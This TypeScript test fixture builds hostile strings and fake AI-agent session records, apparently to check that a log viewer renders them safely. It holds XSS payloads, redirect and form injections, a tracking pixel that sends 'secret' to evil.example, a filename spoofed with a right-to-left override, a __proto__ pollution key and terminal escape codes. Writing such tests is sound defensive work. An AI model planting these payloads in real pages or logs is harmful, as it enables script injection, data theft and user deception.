/** Texts that would run, load, navigate or deceive where they were shown as anything but text. */
export const hostileTexts = [
  '<script>window.pwned = 1</script><img src="https://evil.example/a.png" onerror="window.pwned = 2">',
  '<svg onload="window.pwned = 3"><a href="javascript:window.pwned = 4">x</a></svg><iframe src="https://evil.example/"></iframe>',
  '![pixel](https://evil.example/pixel.png?d=secret) [click](javascript:window.pwned=5) [data](data:text/html,<script>window.pwned=6</script>)',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input autofocus onfocus="window.pwned=7"></form>',
  'safe.txt \u202egpj.exe\u202c \u200bhidden\u0007',
] as const;

/** A log of a session that holds them as prompt, answer, tool input, tool output and title. */
export function hostileRecords(): object[] {
  let count = 0;
  let parent: string | null = null;
  const next = (type: string, message: object) => {
    count += 1;
    const uuid = `h${count}`;
    const record = {
      type,
      uuid,
      parentUuid: parent,
      sessionId: 'hostile',
      timestamp: `2026-03-03T10:00:${String(count).padStart(2, '0')}.000Z`,
      cwd: '/srv/<b>hostile</b>',
      version: '2.1.60',
      message,
    };
    parent = uuid;
    return record;
  };
  return hostileTexts.flatMap((text, index) => {
    const input: unknown = JSON.parse(JSON.stringify({ command: text, proto: text }).replace('"proto"', '"__proto__"'));
    const call = { type: 'tool_use', id: `c${index}`, name: 'Bash', input };
    const answer = (block: object) => ({
      id: `m${count}`,
      role: 'assistant',
      model: text,
      stop_reason: 'end_turn',
      content: [block],
    });
    return [
      next('user', { role: 'user', content: text }),
      next('assistant', answer({ type: 'text', text })),
      next('assistant', answer(call)),
      next('user', {
        role: 'user',
        content: [{ type: 'tool_result', tool_use_id: `c${index}`, content: `\u001b]0;title\u0007\u001b[31m${text}` }],
      }),
    ];
  });
}
